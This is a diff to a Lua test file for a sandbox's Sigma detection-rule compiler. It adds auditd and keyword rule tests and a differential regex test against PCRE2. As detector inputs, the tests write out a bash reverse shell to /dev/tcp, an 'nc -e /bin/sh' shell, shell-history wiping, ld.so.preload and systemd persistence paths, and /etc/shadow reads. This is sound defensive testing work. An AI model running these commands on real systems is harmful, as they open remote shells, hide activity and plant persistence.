@@ -15,7 +15,8 @@ local report = require "sbx.report"
 local cjson = require "cjson"
 
 -- the rule files that compile whole, and how many rules each holds
-local SUPPORTED = { process_creation = 5, file_event = 3, network_connection = 4, modifiers = 17, conditions = 10 }
+local SUPPORTED = { process_creation = 5, file_event = 3, network_connection = 4, modifiers = 17, conditions = 10,
+	auditd = 9, keywords = 3 }
 
 local function compile_file(name)
 	local path = "tests/sigma/" .. name .. ".yml"
@@ -409,6 +410,137 @@ describe("sbx.sigma modifiers", function()
 	end)
 end)
 
+describe("sbx.sigma service auditd", function()
+	local KW = "sigma.Auditd_keywords_history_linked_to_the_null_device"
+	local function fires(name, run) return RULES[name].fn(run, facts.of(run)) end
+	local function ids(run)
+		local out = {}
+		for name, r in pairs(RULES) do
+			if name:find("^sigma%.3d0c5a2e") or name:find("^sigma%.Auditd") then
+				if r.fn(run, facts.of(run)) then out[#out + 1] = name end
+			end
+		end
+		table.sort(out)
+		return out
+	end
+
+	it("EXECVE: a0..aN from argv, argc, re|ignorecase, re|multiline, re|dotall", function()
+		local f = fire("3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11",
+			cmd_run("bash -c bash_-i_>&_/dev/tcp/10.0.0.1/4444_0>&1"))
+		assert.is_nil(f) -- a2 is one word here: no space after -i
+		local run = { events = { exec(2, 1, "/usr/bin/bash", { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }) } }
+		f = fire("3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11", run)
+		assert.are.equal("sigma Auditd EXECVE shell to a TCP device (3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11): "
+			.. 'type=EXECVE command line="bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"', f.reason)
+		assert.is_nil(fire("3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11",
+			{ events = { exec(2, 1, "/usr/bin/sh", { "sh", "-c", "bash -i >& /dev/tcp/x/1" }) } }))
+		local argv0 = "Auditd_EXECVE_argv0_of_a_kernel_thread"
+		assert.truthy(fire(argv0, { events = { exec(2, 1, "/dev/shm/k", { "[kworker/0:1]", "5" }) } }))
+		assert.is_nil(fire(argv0, { events = { exec(2, 1, "/dev/shm/k", { "[kworker/0:1]" }) } }))
+		local function py(code) return { events = { exec(2, 1, "/usr/bin/python3", { "python3", "-c", code }) } } end
+		local raw = "\nimport socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\ns.settimeout(1)\ns.recv(9)\n"
+		assert.truthy(fire("Auditd_EXECVE_raw_packet_socket_in_a_one-liner", py(raw)))
+		assert.is_nil(fire("Auditd_EXECVE_raw_packet_socket_in_a_one-liner", py(raw:gsub("\ns = ", "; s = "))))
+		assert.is_nil(fire("Auditd_EXECVE_raw_packet_socket_in_a_one-liner", py(raw:gsub("recv", "close"))))
+	end)
+
+	it("PATH: name and nametype from opens, deletes and renames", function()
+		local name = "Auditd_PATH_preload_list_created_or_appended_to"
+		local f = fire(name, { events = { open(2, "/etc/ld.so.preload", 1 | 64 | 1024, "deny") } })
+		assert.truthy(f.reason:find('type=PATH record="type=PATH name=/etc/ld.so.preload nametype=CREATE"', 1, true))
+		assert.is_nil(fire(name, { events = { open(2, "/etc/ld.so.preload", 0) } }))
+		local unit = "Auditd_PATH_systemd_unit_created"
+		assert.truthy(fire(unit, { events = { open(2, "/home/dana/.config/systemd/user/x.service", 65) } }))
+		assert.truthy(fire(unit, { events = { { kind = "rename", pid = 2, path = "/tmp/x", to = "/etc/systemd/system/y.service",
+			answer = "allow" } } }))
+		assert.is_nil(fire(unit, { events = { { kind = "delete", pid = 2, path = "/etc/systemd/system/y.service",
+			syscall = "unlinkat", answer = "allow" } } }))
+		assert.is_nil(fire(unit, { events = { open(2, "/etc/systemd/system/y.service", 0) } }))
+	end)
+
+	it("SYSCALL: name and number, exe, comm, success, and key from the rule's definition", function()
+		local shm = "Auditd_SYSCALL_execve_from_shared_memory"
+		local run = { events = { exec(2, 1, "/dev/shm/.k/kworker", { "[kworker/0:2H]", "1" }) } }
+		local f = fire(shm, run)
+		assert.are.equal("sigma Auditd SYSCALL execve from shared memory: type=SYSCALL record=\"type=SYSCALL "
+			.. "SYSCALL=execve syscall=59 success=yes pid=2 ppid=1 comm=kworker exe=/dev/shm/.k/kworker\"", f.reason)
+		run.events[1].answer = "deny"
+		assert.is_nil(fire(shm, run))
+		assert.is_nil(fire(shm, { events = { exec(2, 1, "/dev/shm/.k/kworker.bin", { "x" }) } }))
+		local key = "Auditd_SYSCALL_key_of_a_watched_program"
+		assert.truthy(fire(key, cmd_run("tcpdump -i any")))
+		assert.truthy(fire(key, cmd_run("tcpdump", "/bin/tcpdump")))
+		assert.is_nil(fire(key, cmd_run("tcpdumpx -i any")))
+		assert.is_nil(fire(key, { events = { open(2, "/usr/bin/tcpdump", 0) } })) -- -p x: a read is not keyed
+		local rules = sigma.compile("title: K\nlogsource:\n  product: linux\n  service: auditd\n  definition: |\n"
+			.. "    -a always,exit -F arch=b64 -S memfd_create,ptrace -k sbx_inject\n"
+			.. "    -w /etc/shadow -p r -k sbx_shadow\n"
+			.. "detection: {s: {key: [sbx_inject, sbx_shadow]}, condition: s}\n")
+		assert.are.equal(1, #rules)
+		assert.truthy(rules[1].fn({ events = { { kind = "memfd", pid = 2, path = "x", answer = "allow" } } }))
+		assert.truthy(rules[1].fn({ events = { open(2, "/etc/shadow", 0, "deny") } }))
+		assert.is_nil(rules[1].fn({ events = { open(2, "/etc/shadow-", 0) } }))
+		local _, skipped = sigma.compile("title: K\nlogsource: {product: linux, service: auditd, definition: "
+			.. "'-a always,exit -F euid=33 -S execve -k web'}\ndetection: {s: {key: web}, condition: s}\n")
+		assert.are.equal("key 'web': no audit rule of the rule's definition sets it (only -w and -S rules)",
+			skipped[1].why)
+	end)
+
+	it("SOCKADDR, CWD, PROCTITLE; keywords over an EXECVE record", function()
+		local f = fire("Auditd_SOCKADDR_shell_port", { events = { connect(2, "10.0.0.1:4444") } })
+		assert.truthy(f.reason:find("saddr=0200115C0A0000010000000000000000", 1, true), f.reason)
+		assert.is_nil(fire("Auditd_SOCKADDR_shell_port", { events = { connect(2, "10.0.0.1:4445") } }))
+		local rules = sigma.compile("title: C\nlogsource: {product: linux, service: auditd}\n"
+			.. "detection: {cwd: {type: CWD, cwd|startswith: /tmp/}, title: {proctitle|contains: 'sh -i'}, "
+			.. "condition: cwd or title}\n")
+		assert.truthy(rules[1].fn({ events = { exec(2, 1, "/bin/ls", { "ls" }, "/tmp/.x") } }))
+		assert.truthy(rules[1].fn(cmd_run("nc -e /bin/sh -i x")))
+		assert.is_nil(rules[1].fn(cmd_run("ls /tmp/")))
+		assert.truthy(fires(KW, cmd_run("ln -sf /dev/null /home/dana/.bash_history")))
+		assert.is_nil(fires(KW, cmd_run("ln -sf /dev/null /home/dana/.bash_profile")))
+		assert.is_nil(fires(KW, { events = { open(2, "/home/dana/ln -sf /dev/null _history", 65) } }))
+		assert.are.same({}, ids(cmd_run("ls -la /tmp")))
+	end)
+end)
+
+describe("sbx.sigma keywords (product linux, no category)", function()
+	it("match command lines, with wildcards, |all and re|ignorecase", function()
+		assert.truthy(fire("Keywords_shell_on_a_TCP_device", cmd_run("bash -c sh -i >& /dev/tcp/1.2.3.4/80")))
+		assert.is_nil(fire("Keywords_shell_on_a_TCP_device", cmd_run("cat /dev/tcp/1.2.3.4/80")))
+		local h = "Keywords_history_emptied"
+		assert.truthy(fire(h, cmd_run("ln -sf /dev/null /home/dana/.zsh_history")))
+		assert.truthy(fire(h, cmd_run("rm -f /root/.bash_history")))
+		assert.is_nil(fire(h, cmd_run("ln -sf /dev/null /home/dana/.bashrc")))
+		assert.is_nil(fire(h, cmd_run("ls -la /home/dana/.bash_history")))
+		local f = fire("Keywords_library_copied_to_a_hidden_file_in_tmp", cmd_run("cp /usr/lib/libz.so.1 /tmp/.l.so"))
+		assert.are.equal('sigma Keywords library copied to a hidden file in tmp: command line="cp /usr/lib/libz.so.1 '
+			.. '/tmp/.l.so" Image=/usr/bin/cp', f.reason)
+		assert.is_nil(fire("Keywords_library_copied_to_a_hidden_file_in_tmp", cmd_run("cp /usr/lib/libz.so.1 /tmp/l.so")))
+		local rule = sigma.compile("title: S\nlogsource: {product: linux}\n"
+			.. "detection: {k: {'|startswith': ['ls '], '|endswith': ['-la', '-al']}, condition: k}\n")[1]
+		assert.truthy(rule.fn(cmd_run("ls / -la")))
+		assert.is_nil(rule.fn(cmd_run("x ls / -la")))
+		assert.is_nil(rule.fn(cmd_run("ls -la /")))
+	end)
+
+	it("match script lines where the facts have them, and do without", function()
+		local rule = sigma.compile("title: S\nlogsource: {product: linux}\n"
+			.. "detection: {k: ['unset HISTFILE', 'history -c'], condition: k}\n")[1]
+		local run = cmd_run("sh /tmp/x.sh")
+		local F = facts.of(run)
+		assert.is_nil(rule.fn(run, F))
+		F = facts.of(run)
+		F.scripts = { { language = "sh", source = "/tmp/x.sh", lines = { "echo hi", "unset HISTFILE" } } }
+		assert.are.equal('sigma S: script line="unset HISTFILE" Image=/tmp/x.sh', rule.fn(run, F).reason)
+		F = facts.of(run)
+		F.scripts = { [7] = { language = "bash", source = "-c", text = "ls\nhistory -c\n" }, [3] = "not a table" }
+		assert.truthy(rule.fn(run, F))
+		F = facts.of(run)
+		F.scripts = { { source = "/tmp/y.sh", lines = { "history", "echo -c" } } }
+		assert.is_nil(rule.fn(run, F))
+	end)
+end)
+
 describe("sbx.sigma conditions", function()
 	-- rule, then { image, command line, whether it fires }
 	local CASES = {
@@ -459,17 +591,26 @@ describe("sbx.sigma conditions", function()
 end)
 
 describe("sbx.sigma unsupported rules", function()
+	local SOURCES = "categories process_creation, file_event, network_connection, service auditd, or keywords with "
+		.. "no category"
 	local WHY = {
 		["Bad unknown field"] = "unknown field 'Hashes' for category process_creation",
 		["Bad field of another category"] = "unknown field 'CommandLine' for category file_event",
-		["Bad category"] = "unsupported logsource: category 'dns_query' (only process_creation, file_event, "
-			.. "network_connection)",
+		["Bad category"] = "unsupported logsource: category 'dns_query' (only " .. SOURCES .. ")",
 		["Bad product"] = "unsupported logsource: product 'windows' (only linux)",
-		["Bad service"] = "unsupported logsource: service 'auditd' (only categories process_creation, file_event, "
-			.. "network_connection)",
+		["Bad service"] = "unsupported logsource: service 'sshd' (sshd's log of logins: the box runs no such "
+			.. "service) (only " .. SOURCES .. ")",
 		["Bad no product"] = "unsupported logsource: no product (only linux)",
-		["Bad keywords"] = "keyword selection 'keywords' (values without a field) is not supported",
-		["Bad keywords all"] = "keyword selection 'keywords' (values without a field) is not supported",
+		["Bad keywords"] = "keyword selection 'keywords' (values without a field) is not supported in category "
+			.. "process_creation",
+		["Bad keywords all"] = "keyword selection 'keywords' (values without a field) is not supported in category "
+			.. "process_creation",
+		["Bad auditd record type"] = "auditd record type USER_TTY, TTY: the box makes no such record (only SYSCALL, "
+			.. "EXECVE, PATH, CWD, PROCTITLE, SOCKADDR)",
+		["Bad auditd key"] = "key 'net_probe': no audit rule of the rule's definition sets it (only -w and -S rules)",
+		["Bad auditd field"] = "unknown field 'unit' for service auditd",
+		["Bad keywords field"] = "unknown field 'CommandLine' for category keywords",
+		["Bad service with a category"] = "unsupported logsource: service 'auditd' (only " .. SOURCES .. ")",
 		["Bad aggregation"] = "aggregation in the condition ('| count() by ParentImage > 5') is not supported",
 		["Bad near"] = "'near' in the condition is not supported",
 		["Bad timeframe"] = "timeframe (an aggregation) is not supported",
@@ -505,7 +646,7 @@ describe("sbx.sigma unsupported rules", function()
 			got[s.title or "(none)"] = s.why
 		end
 		assert.are.same(WHY, got)
-		assert.are.equal(31, #skipped)
+		assert.are.equal(36, #skipped)
 		assert.are.equal("2b9f3c71-6e0a-4d8b-9a5c-1f7e3d2c8b40", skipped[28].id)
 	end)
 
@@ -595,6 +736,141 @@ describe("sbx.sigma regular expressions", function()
 		assert.is_false(m("^(a|aa)*b$")(a))
 		assert.is_false(m("(a*)*b")(a))
 		assert.is_false(m("(x+x+)+y")(("x"):rep(5000)))
+	end)
+end)
+
+-- The differential test's cases: regular expressions drawn from a small
+-- grammar (atoms, assertions, groups, alternations, quantifiers) and
+-- subjects over the same alphabet, Latin-1, Latin Extended-A and Cyrillic
+-- letters in both cases among them, from a fixed seed.
+local GEN_ATOMS = { "a", "b", "c", "A", "1", "_", " ", ".", "[ab]", "[^a]", "[a-c]", "[^b-c1]", "\\d", "\\w",
+	"\\s", "\\D", "\\W", "\\S", "\\.", "-", "\\x41", "[\\d_]", "[\\w-]", "\\n", "\\t", "\u{e9}", "\\x{c9}",
+	"\\xe9", "[.]", "{,2}", "x{", "}", "\u{430}", "\u{416}", "\u{141}", "\u{ff}", "(?=b)", "\\1", "[[:alpha:]]",
+	"\\p{L}", "\u{3b1}" }
+local GEN_QUANTS = { "*", "+", "?", "{2}", "{1,3}", "{0,}", "{2,2}", "*?", "+?", "??", "{1,2}?", "++" }
+local GEN_CHARS = { "a", "b", "c", "A", "B", "1", "2", "_", " ", "\n", "\t", "-", ".", "x", "\u{e9}", "\u{c9}",
+	"{", "}", "\u{430}", "\u{410}", "\u{436}", "\u{416}", "\u{141}", "\u{142}", "\u{ff}", "\u{178}", "\u{3b1}" }
+
+local function gen_regex(r, depth)
+	local out = {}
+	for i = 1, r(4) do
+		local k, item = r(10), nil -- luacheck: ignore 311
+		if k <= 5 or depth > 2 then item = GEN_ATOMS[r(#GEN_ATOMS)]
+		elseif k == 6 then item = ({ "^", "$", "\\b", "\\B" })[r(4)]
+		elseif k <= 8 then item = "(" .. gen_regex(r, depth + 1) .. ")"
+		elseif k == 9 then item = "(?:" .. gen_regex(r, depth + 1) .. "|" .. gen_regex(r, depth + 1) .. ")"
+		else item = gen_regex(r, depth + 1) .. "|" .. GEN_ATOMS[r(#GEN_ATOMS)] end
+		if r(3) == 1 and not item:find("[|^$]") and not item:find("\\[bB]$") then
+			item = item .. GEN_QUANTS[r(#GEN_QUANTS)]
+		end
+		out[i] = item
+	end
+	return table.concat(out)
+end
+
+local function gen_subject(r, chars)
+	local out = {}
+	for i = 1, r(0, 8) do out[i] = chars[r(#chars)] end
+	return table.concat(out)
+end
+
+-- every `|re` of the rule files under tests/sigma: { regex, flags }
+local function own_regexes()
+	local out = {}
+	local function walk(t)
+		for k, v in pairs(t) do
+			if type(k) == "string" and k:find("|re", 1, true) then
+				local flags = {}
+				for f in k:gmatch("|(%a+)") do flags[#flags + 1] = ({ i = "i", m = "m", s = "s" })[f] end
+				for _, x in ipairs(type(v) == "table" and v or { v }) do
+					if type(x) == "string" then out[#out + 1] = { x, table.concat(flags) } end
+				end
+			elseif type(v) == "table" then
+				walk(v)
+			end
+		end
+	end
+	for f in S.sh("ls tests/sigma/*.yml"):gmatch("[^\n]+") do
+		walk(require("sbx._sigma_yaml").documents(S.read(f), sigma) or {})
+	end
+	return out
+end
+
+-- PCRE2's answers (tests/progs/pcre2match.c) and sbxlua's on cases
+-- { regex, flags, subject }: the lines of those they differ on, and how
+-- many matched and were refused
+local function differ(cases)
+	local function hex(s) return s == "" and "-" or (s:gsub(".", function(c) return ("%02x"):format(c:byte()) end)) end
+	local input = os.tmpname()
+	local f = assert(io.open(input, "w"))
+	for _, c in ipairs(cases) do f:write(c[2] == "" and "-" or c[2], " ", hex(c[1]), " ", hex(c[3]), "\n") end
+	f:close()
+	local answers = S.sh("build/tests/pcre2match <" .. input)
+	os.remove(input)
+	local diffs, matched, refused, i = {}, 0, {}, 0
+	for want in answers:gmatch("([^\n]*)\n") do
+		i = i + 1
+		local c = cases[i]
+		local m, why = sigma.regex(c[1], c[2])
+		if not m then
+			assert.truthy(why:find("^regex '"), why)
+			refused[c[1]] = why
+		elseif want:sub(1, 1) == "E" then
+			diffs[#diffs + 1] = ("%q: sbxlua compiles it, PCRE2 says %s"):format(c[1], want)
+		else
+			local got = m(c[3]) and "1" or "0"
+			matched = matched + (got == "1" and 1 or 0)
+			if got ~= want then diffs[#diffs + 1] = ("%q /%s on %q: PCRE2 %s, sbxlua %s"):format(c[1], c[2], c[3], want, got) end
+		end
+	end
+	assert.are.equal(#cases, i, "pcre2match answered " .. i .. " of " .. #cases)
+	return diffs, matched, refused
+end
+
+describe("sbx.sigma regular expressions against PCRE2", function()
+	local have = io.open("build/tests/pcre2match") ~= nil
+	local function test(name, f)
+		if have then it(name, f) else pending("build/tests/pcre2match is not built (libpcre2-dev): " .. name) end
+	end
+
+	test("agree on every regex of the rule files under tests/sigma", function()
+		local cases = {}
+		math.randomseed(38)
+		for _, re in ipairs(own_regexes()) do
+			-- subjects from the expression's own characters, and the alphabet
+			local chars = {}
+			for c in re[1]:gsub("\\[dswbDSWB]", ""):gmatch(".") do chars[#chars + 1] = c end
+			for _, c in ipairs(GEN_CHARS) do chars[#chars + 1] = c end
+			for _ = 1, 400 do cases[#cases + 1] = { re[1], re[2], gen_subject(function(a, b)
+				return b and math.random(a, b * 5) or math.random(a)
+			end, chars) } end
+			cases[#cases + 1] = { re[1], re[2], "" }
+		end
+		assert.truthy(#cases > 4000)
+		local diffs, matched, refused = differ(cases)
+		assert.are.equal("", table.concat(diffs, "\n"))
+		assert.truthy(matched > 50, matched)
+		-- those unsupported.yml holds to be refused, and only them
+		assert.are.same({ ["(a)\\1"] = "regex '(a)\\1': backreferences are not supported",
+			["curl(?! -s)"] = "regex 'curl(?! -s)': unsupported group '(?!'",
+			["(curl|wget"] = "regex '(curl|wget': missing )" }, refused)
+	end)
+
+	test("agree on 2000 generated regexes, 12 subjects each (seed 38)", function()
+		math.randomseed(38)
+		local r, cases = math.random, {}
+		local flags = { "", "i", "m", "s", "ims" }
+		for _ = 1, 2000 do
+			local re, fl = gen_regex(r, 0), flags[r(#flags)]
+			for _ = 1, 12 do cases[#cases + 1] = { re, fl, gen_subject(r, GEN_CHARS) } end
+		end
+		local diffs, matched, refused = differ(cases)
+		assert.are.equal("", table.concat(diffs, "\n"))
+		-- both answers occur, and what sbxlua refuses it names
+		assert.truthy(matched > 2000 and matched < #cases - 2000, matched)
+		local kinds = {}
+		for _, why in pairs(refused) do kinds[why:match("^regex '.*': (.-)[ \\]") or why] = true end
+		assert.truthy(next(kinds))
 	end)
 end)
 
